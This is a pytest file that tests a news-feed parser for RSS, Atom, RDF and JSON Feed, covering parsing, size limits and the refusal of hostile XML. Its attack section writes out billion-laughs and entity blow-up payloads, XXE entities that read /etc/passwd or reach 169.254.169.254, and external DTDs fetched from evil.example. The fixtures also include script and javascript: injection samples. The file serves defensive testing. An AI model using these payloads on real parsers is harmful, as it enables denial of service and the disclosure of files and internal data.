"""Feeds: RSS, Atom and JSON Feed as they are written, and what is refused before it is parsed."""

import contextlib
import json
import time
from datetime import UTC, date, datetime, timedelta, timezone

import pytest

from paraph.errors import Damaged, NoText, SourceError, TooLarge
from paraph.intake.feed import Entry, json_entries, read_entry, xml_entries
from paraph.settings import Settings

SETTINGS = Settings()
NOW = datetime(2026, 1, 10, tzinfo=UTC)
INDIA = timezone(timedelta(hours=5, minutes=30))
TEXT = "The ministers of the two countries signed a treaty on fishing rights in the capital on Monday."

RSS = f"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel><title>The Fish &amp; Port Gazette</title><link>http://gazette.example/news/</link>
<item><title>A &lt;b&gt;treaty&lt;/b&gt; at last</title><link>/a?x=1&amp;y=2</link>
<pubDate>Thu, 04 Dec 2025 22:32:00 +0530</pubDate><description>In short.</description>
<content:encoded><![CDATA[<h2>Fish</h2><p>{TEXT}</p><ul><li>cod</li><li>herring</li></ul><script>alert(1)</script>]]></content:encoded></item>
<item><title>Second</title><link>http://gazette.example/b</link><dc:date>2025-12-05</dc:date>
<description>&lt;p&gt;{TEXT}&lt;/p&gt;</description></item>
<item><title>Third</title></item>
</channel></rss>""".encode()

ATOM = f"""<feed xmlns="http://www.w3.org/2005/Atom" xml:base="http://gazette.example/x/">
<title type="html">The &lt;i&gt;Gazette</title>
<entry><title>One</title><link href="one"/><link rel="enclosure" href="one.mp3"/>
<published>2025-12-04T22:32:00+05:30</published><updated>2025-12-05T00:00:00Z</updated>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>{TEXT}</p></div></content><summary>S</summary></entry>
<entry><title>Two</title><link href="javascript:alert(1)"/><source><title>Another Paper</title></source>
<updated>2025-12-06T10:00:00Z</updated><summary>{TEXT}</summary></entry></feed>""".encode()

RDF = f"""<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/">
<channel><title>G</title></channel><item><title>R</title><link>http://gazette.example/r</link><description>{TEXT}</description></item>
</rdf:RDF>""".encode()


def xml(data: bytes, settings: Settings = SETTINGS, url: str | None = None) -> list[Entry]:
    return list(xml_entries(data, source="feed.xml", settings=settings, url=url))


def js(value: object, settings: Settings = SETTINGS, url: str | None = None) -> list[Entry]:
    data = value if isinstance(value, bytes) else json.dumps(value).encode()
    return list(json_entries(data, source="feed.json", settings=settings, url=url))


def test_rss() -> None:
    one, two, three = xml(RSS)
    assert (one.number, two.number, three.number) == (1, 2, 3)
    assert one.title == "A treaty at last"
    assert one.link == "http://gazette.example/a?x=1&y=2"
    assert one.publisher == "The Fish & Port Gazette"
    assert one.published == datetime(2025, 12, 4, 22, 32, tzinfo=INDIA)
    assert one.text == f"Fish\n\n{TEXT}\n\n- cod\n\n- herring"
    assert two.text == TEXT
    assert date(2025, 12, 5) in (two.published, two.updated)
    assert (three.text, three.published, three.link, three.note) == ("", None, None, None)


def test_atom() -> None:
    one, two = xml(ATOM)
    assert (one.title, one.publisher, one.link) == ("One", "The Gazette", "http://gazette.example/x/one")
    assert one.published == datetime(2025, 12, 4, 22, 32, tzinfo=INDIA)
    assert one.updated == datetime(2025, 12, 5, tzinfo=UTC)
    assert one.text == TEXT
    assert (two.publisher, two.link, two.published) == ("Another Paper", None, None)
    assert two.updated == datetime(2025, 12, 6, 10, tzinfo=UTC)


def test_rdf() -> None:
    (one,) = xml(RDF)
    assert (one.title, one.publisher, one.text) == ("R", "G", TEXT)


def test_json_feed() -> None:
    items = [
        {"id": "1", "url": "/a", "title": "A  treaty", "content_html": f"<p>{TEXT}</p>", "content_text": "x"}
        | {"date_published": "2025-12-04T22:32:00+05:30", "date_modified": "2025-12-05T00:00:00Z"},
        {"id": "2", "external_url": "http://other.example/", "content_text": f"{TEXT}\n\n- one"},
        {"id": "3", "summary": TEXT, "title": 3, "url": 4, "date_published": 5, "content_html": 6},
        "no item",
    ]
    one, two, three, four = js(
        {
            "version": "https://jsonfeed.org/version/1.1",
            "title": "The Gazette",
            "home_page_url": "http://g.example/",
            "items": items,
        }
    )
    assert (one.title, one.link, one.publisher, one.text) == ("A treaty", "http://g.example/a", "The Gazette", TEXT)
    assert one.published == datetime(2025, 12, 4, 22, 32, tzinfo=INDIA)
    assert one.updated == datetime(2025, 12, 5, tzinfo=UTC)
    assert (two.link, two.text) == ("http://other.example/", f"{TEXT}\n\n- one")
    assert (three.title, three.link, three.published, three.text) == (None, None, None, TEXT)
    assert four.text == ""


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "iso-8859-1", "windows-1252"])
def test_the_encoding_is_the_one_that_is_declared(encoding: str) -> None:
    declared = encoding.removesuffix("-sig")
    data = f'<?xml version="1.0" encoding="{declared}"?>'
    data += '<rss version="2.0"><channel><item><title>Gen\u00e8ve signs</title></item></channel></rss>'
    assert xml(data.encode(encoding))[0].title == "Gen\u00e8ve signs"


def test_links_are_made_whole_with_the_address_of_the_feed() -> None:
    data = b'<rss version="2.0"><channel><item><link>b/c</link></item><item><link>http://[::1</link></item></channel></rss>'
    one, two = xml(data, url="http://gazette.example/a/feed")
    assert one.link == "http://gazette.example/a/b/c"
    assert two.link is None


@pytest.mark.parametrize(
    ("written", "is_date"), [("Thu, 4 Dec 25 01:02:03 PST", True), ("-251204", False), ("nonsense", False)]
)
def test_a_date_that_cannot_be_read_is_none(written: str, is_date: bool) -> None:
    data = f'<rss version="2.0"><channel><item><title>x</title><pubDate>{written}</pubDate></item></channel></rss>'
    assert (xml(data.encode())[0].published is not None) is is_date


def test_entities_of_html_are_read() -> None:
    data = (
        b'<rss version="2.0"><channel><item><title>Fish &amp;amp; ports &nbsp;&eacute;</title></item></channel></rss>'
    )
    assert xml(data)[0].title == "Fish & ports é"


@pytest.mark.parametrize(
    "reference", ["&#x110000;", "&#xD800;", "&#0;", "&#99999999999999999999;", "&#" + "9" * 5000 + ";", "&#xFFFFFFFF"]
)
def test_references_to_characters_that_there_are_not_are_replaced(reference: str) -> None:
    # The first element is not closed, so that feedparser goes on with its lenient reader, which fails on these.
    data = f'<rss version="2.0"><channel><item><title>a {reference} b &#233;</title><p></item></channel></rss>'
    assert xml(data.encode())[0].title == "a \ufffd b é"


def test_a_failure_of_the_library_is_the_feed_s(monkeypatch: pytest.MonkeyPatch) -> None:
    import feedparser

    def fail(*_: object, **__: object) -> None:
        raise ZeroDivisionError("oh")

    monkeypatch.setattr(feedparser, "parse", fail)
    with pytest.raises(Damaged, match=r"no feed that can be read .oh"):
        xml(RSS)


def test_a_feed_that_breaks_off_gives_what_stands_before_with_a_note() -> None:
    entries = xml(RSS[: RSS.index(b"Third")])
    assert [entry.title for entry in entries][:2] == ["A treaty at last", "Second"]
    assert entries[0].note is not None
    assert "damaged" in entries[0].note


@pytest.mark.parametrize(
    ("data", "error", "words"),
    [
        (b"<rss><channel><title>T</title></channel></rss>", NoText, "no entries"),
        (b'<rss version="2.0"><channel></channel></rss>', NoText, "no entries"),
        (b"<opml><body/></opml>", Damaged, "no feed"),
        (b"", Damaged, "no feed"),
        (b"<rss", Damaged, "no feed"),
        (b"\xff\xfe\x00", Damaged, "no feed"),
    ],
)
def test_what_is_no_feed_is_told(data: bytes, error: type[SourceError], words: str) -> None:
    with pytest.raises(error, match=f"feed.xml: .*{words}"):
        xml(data)


@pytest.mark.parametrize(
    ("data", "error", "words"),
    [
        (b"{", Damaged, "not JSON"),
        (b"[]", Damaged, "no list of items"),
        (b'{"items": 3}', Damaged, "no list of items"),
        (b'{"items": []}', NoText, "no entries"),
        (b'{"items": ' + b"[" * 100_000, Damaged, "nested too deep"),
    ],
)
def test_what_is_no_json_feed_is_told(data: bytes, error: type[SourceError], words: str) -> None:
    with pytest.raises(error, match=words):
        js(data)


# ---- documents


def test_an_entry_becomes_a_document() -> None:
    document = read_entry(xml(RSS)[0], source="feed.xml, entry 1", settings=SETTINGS, now=NOW)
    assert document.title == "A treaty at last"
    assert document.publisher == "The Fish & Port Gazette"
    assert document.url == "http://gazette.example/a?x=1&y=2"
    assert document.published == datetime(2025, 12, 4, 22, 32, tzinfo=INDIA)
    assert document.updated is None
    assert TEXT in document.text
    assert "alert" not in document.text
    assert document.notes == ()


def test_an_entry_that_was_changed_says_so() -> None:
    document = read_entry(xml(ATOM)[0], source="feed.xml, entry 1", settings=SETTINGS, now=NOW)
    assert document.updated == datetime(2025, 12, 5, tzinfo=UTC)


def test_a_note_goes_to_the_document() -> None:
    entry = Entry(number=1, text=TEXT, note="the feed is damaged")
    assert read_entry(entry, source="f", settings=SETTINGS, now=NOW).notes == ("the feed is damaged",)


def test_an_entry_without_text_is_told() -> None:
    with pytest.raises(NoText, match=r"feed\.xml, entry 3: the entry has no text of its own .follow its link"):
        read_entry(xml(RSS)[2], source="feed.xml, entry 3", settings=SETTINGS, now=NOW)


# ---- limits


@pytest.mark.parametrize("spare", [0, -1])
def test_size_is_limited(spare: int) -> None:
    feed = json.dumps({"items": [{"content_text": TEXT * 20}]}).encode()
    rss = RSS + b" " * 1000
    if spare == 0:
        assert xml(rss, Settings(max_feed_bytes=len(rss)))
        assert js(feed, Settings(max_feed_bytes=len(feed)))
        return
    with pytest.raises(TooLarge, match="raise max_feed_bytes"):
        xml(rss, Settings(max_feed_bytes=len(rss) - 1))
    with pytest.raises(TooLarge, match="raise max_feed_bytes"):
        js(feed, Settings(max_feed_bytes=len(feed) - 1))


@pytest.mark.parametrize(("limit", "count"), [(2, 2), (3, 3), (4, 3)])
def test_entries_are_limited(limit: int, count: int) -> None:
    assert len(xml(RSS, Settings(max_feed_entries=limit))) == count
    assert len(js({"items": [{}, {}, {}]}, Settings(max_feed_entries=limit))) == count


def test_tags_are_limited_and_those_of_quoted_pages_do_not_count() -> None:
    head, tail = b'<rss version="2.0"><channel><item><description>', b"</description></item></channel></rss>"
    quoted = b"<![CDATA[" + b"<b>x</b>" * 300_000 + b"]]>"
    assert len(xml(head + quoted + tail)) == 1
    with pytest.raises(TooLarge, match="more than 500,000 tags"):
        xml(head + b"<b>x</b>" * 300_000 + tail)


# ---- attacks

LOLS = b"".join(b'<!ENTITY lol%d "%s">' % (n + 1, b"&lol%d;" % n * 10) for n in range(9))
BODY = b'<rss version="2.0"><channel><title>&lol9;</title><item><title>&x;</title></item></channel></rss>'
ATTACKS = {
    "ten to the ninth laughs": b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY lol0 "lol">' + LOLS + b"]>" + BODY,
    "quadratic blow-up": b'<!DOCTYPE rss [<!ENTITY x "'
    + b"a" * 100_000
    + b'">]>'
    + b"<rss>"
    + b"&x;" * 10_000
    + b"</rss>",
    "a file of this machine": b'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + BODY,
    "an address inside": b'<!DOCTYPE rss [<!ENTITY x SYSTEM "http://169.254.169.254/">]>' + BODY,
    "parameter entities": b'<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/a.dtd"> %p;]>' + BODY,
    "a document type elsewhere": b'<!DOCTYPE rss SYSTEM "http://evil.example/a.dtd">' + BODY,
    "small letters and spaces": b'<!doctype\n\trss [<!ENTITY x "y">]>' + BODY,
    "utf-16": ('\ufeff<!DOCTYPE rss [<!ENTITY x "y">]>' + BODY.decode()).encode("utf-16-le"),
    "utf-16, declared": '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE rss [<!ENTITY x "y">]><rss/>'.encode(
        "utf-16-be"
    ),
    "utf-7": b'<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE rss [+ADwAIQ-ENTITY x "y">]>' + BODY,
    "an entity in a comment": b'<!-- <!ENTITY x "'
    + b"a" * 100_000
    + b'"> -->'
    + b"<rss>"
    + b"&x;" * 10_000
    + b"</rss>",
    "behind a comment that an instruction opens": b'<?a <!-- ?><!DOCTYPE rss [<!ENTITY x "y">]><!-- -->' + BODY,
    "behind a section that a comment opens": b'<!-- <![CDATA[ --><!DOCTYPE rss [<!ENTITY x "y">]>' + BODY,
    "after the first element": b'<rss version="2.0"><!DOCTYPE rss [<!ENTITY x "y">]><channel><title>&x;</title></channel></rss>',
    "an entity after the first element": b'<rss version="2.0"><!ENTITY x "y"><channel><title>&x;</title></channel></rss>',
    "a conditional section": b'<rss version="2.0"><![INCLUDE[<!ENTITY x "y">]]><channel/></rss>',
    "a hundred thousand comments": b"<!---->" * 15_000 + b"<!DOCTYPE rss>" + BODY,
    "a comment without end": b"<!--" * 30_000 + b"<!DOCTYPE rss [<!ENTITY x 'y'>]>",
    "a section without end": b"<rss><![CDATA[" * 10_000,
    "spaces without end": b"<!" + b" " * 100_000 + b"DOCTYPE rss>" + BODY,
}


def test_there_are_twelve_attacks_and_more() -> None:
    assert len(ATTACKS) >= 12


@pytest.mark.parametrize("name", ATTACKS)
def test_attacks_are_over_in_a_tenth_of_a_second_and_expand_nothing(name: str) -> None:
    xml(RSS)  # feedparser's own import is not the attack
    best = 9.0
    for _ in range(3):
        start = time.process_time()
        try:
            found = xml(ATTACKS[name])
        except SourceError as error:
            words = str(error)
        else:
            words = " ".join(f"{entry.title} {entry.text}" for entry in found)
        best = min(best, time.process_time() - start)
    assert best < 0.1
    assert len(words) < 1000
    assert "root:" not in words
    assert "lollol" not in words


DECLARING = [
    name
    for name in ATTACKS
    if name not in ("a section without end", "utf-7", "spaces without end", "a comment without end")
]


@pytest.mark.parametrize("name", DECLARING)
def test_declarations_are_refused_before_parsing(name: str) -> None:
    with pytest.raises(Damaged, match="declares a document type or entities"):
        xml(ATTACKS[name])


@pytest.mark.parametrize(
    "harmless",
    [
        b"<![CDATA[<!DOCTYPE html><p>x</p>]]>",
        b"&lt;!DOCTYPE html&gt;&lt;p&gt;x",
        b"<!-- <!DOCTYPE html> -->x",
        b"<?php <! ?>x",
        b"<! >x",
    ],
)
def test_a_document_type_that_is_only_quoted_is_no_attack(harmless: bytes) -> None:
    data = b'<rss version="2.0"><channel><item><description>' + harmless + b"</description></item></channel></rss>"
    assert len(xml(data)) == 1


UNITS = (b"<!--", b"<![CDATA[", b"<?", b"<!", b"<", b"&", b"&#", b"<a ", b"]]>", b'<a b="', b"<!-- -->")


@pytest.mark.parametrize("unit", UNITS)
def test_the_guard_is_linear(unit: bytes) -> None:
    from paraph.intake.feed import refuse_declarations

    text = "<rss>" + unit.decode() * (100_000 // len(unit))
    best = 9.0
    for _ in range(3):
        start = time.process_time()
        with contextlib.suppress(SourceError):
            refuse_declarations(text, "s")
        best = min(best, time.process_time() - start)
    assert best < 0.05
